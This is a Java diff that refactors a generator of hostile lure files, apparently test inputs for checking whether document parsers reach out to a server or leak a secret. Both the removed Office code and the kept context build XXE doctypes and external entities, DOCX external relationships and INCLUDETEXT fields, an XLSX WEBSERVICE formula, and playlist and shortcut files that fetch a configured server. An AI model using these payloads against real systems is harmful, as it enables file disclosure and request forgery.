@@ -16,19 +16,19 @@ record Lures(String secret, String server) {
     addXml(files);
     addIncludes(files);
     addPages(files);
-    addOffice(files);
+    new OfficeLures(this).addTo(files);
     addOpen(files);
     addBooks(files);
     addText(files);
     addPdf(files);
   }
 
-  private String at(String name) {
+  String at(String name) {
     return server + "/" + name;
   }
 
   /** A document type that asks for everything that can be asked for; the text uses {@code &s;}. */
-  private String doctype(String root, String name) {
+  String doctype(String root, String name) {
     return "<?xml version=\"1.0\" standalone=\"no\"?>\n<!DOCTYPE "
         + root
         + " SYSTEM \""
@@ -47,7 +47,7 @@ record Lures(String secret, String server) {
   }
 
   /** As {@link #doctype}, without anything that ends the parse at once. */
-  private String entity(String root) {
+  String entity(String root) {
     return "<?xml version=\"1.0\"?>\n<!DOCTYPE "
         + root
         + " [<!ENTITY s SYSTEM \""
@@ -57,7 +57,7 @@ record Lures(String secret, String server) {
         + "\"><!ENTITY j SYSTEM \"x\">]>\n";
   }
 
-  private static String used() {
+  static String used() {
     return "open &s; &n; &j; end";
   }
 
@@ -214,77 +214,6 @@ record Lures(String secret, String server) {
     files.add("lures/list.m3u", "#EXTM3U\n" + at("m3u") + "\n" + secret + "\n");
     files.add(
         "lures/shortcut.url", "[InternetShortcut]\nURL=" + at("shortcut") + "\nIconFile=" + secret);
-  }
-
-  private void addOffice(HostileFiles files) {
-    String doctype = doctype("w:document", "docx");
-    String text = "<w:p><w:r><w:t>" + used() + "</w:t></w:r></w:p>";
-    files.add(
-        "lures/doctype.docx",
-        Containers.docx(Map.of("word/document.xml", doctype + Containers.document(text))));
-    files.add(
-        "lures/entity.docx",
-        Containers.docx(
-            Map.of("word/document.xml", entity("w:document") + Containers.document(text))));
-    files.add(
-        "lures/relations.docx",
-        Containers.docx(
-            Map.of(
-                "_rels/.rels",
-                doctype("Relationships", "rels")
-                    + Containers.relations("officeDocument", "word/document.xml", ""))));
-    files.add("lures/template.docx", external("attachedTemplate", at("template.dotx")));
-    files.add("lures/picture.docx", external("image", at("picture.png")));
-    files.add("lures/frame.docx", external("frame", secret));
-    files.add("lures/chunk.docx", external("aFChunk", secret));
-    files.add("lures/object.docx", external("oleObject", secret));
-    files.add(
-        "lures/main.docx",
-        Containers.docx(
-            Map.of(
-                "_rels/.rels",
-                Containers.relations("officeDocument", secret, "TargetMode=\"External\""))));
-    files.add(
-        "lures/field.docx",
-        Containers.docx(
-            Map.of(
-                "word/document.xml",
-                Containers.document(
-                    "<w:p><w:fldSimple w:instr=\"INCLUDETEXT &quot;"
-                        + secret
-                        + "&quot;\"><w:r><w:t>open</w:t></w:r></w:fldSimple></w:p>"))));
-    files.add(
-        "lures/doctype.xlsx",
-        Containers.xlsx(
-            Map.of(
-                "xl/sharedStrings.xml",
-                doctype("sst", "xlsx")
-                    + Containers.sheetPart("sst")
-                    + "<si><t>"
-                    + used()
-                    + "</t></si></sst>")));
-    files.add(
-        "lures/formula.xlsx",
-        Containers.xlsx(
-            Map.of(
-                "xl/worksheets/sheet1.xml",
-                Containers.sheetPart("worksheet")
-                    + "<sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\""
-                    + at("formula")
-                    + "\")</f></c><c r=\"B1\"><f>'["
-                    + secret
-                    + "]S'!A1</f></c></row></sheetData></worksheet>")));
-  }
-
-  private static byte[] external(String kind, String target) {
-    return Containers.docx(
-        Map.of(
-            "word/_rels/document.xml.rels",
-            Containers.relations(kind, target, "TargetMode=\"External\""),
-            "word/document.xml",
-            Containers.document(
-                "<w:p><w:r><w:t>open</w:t></w:r></w:p><w:altChunk r:id=\"rId1\"/>"
-                    + "<w:attachedTemplate r:id=\"rId1\"/>")));
   }
 
   private void addOpen(HostileFiles files) {
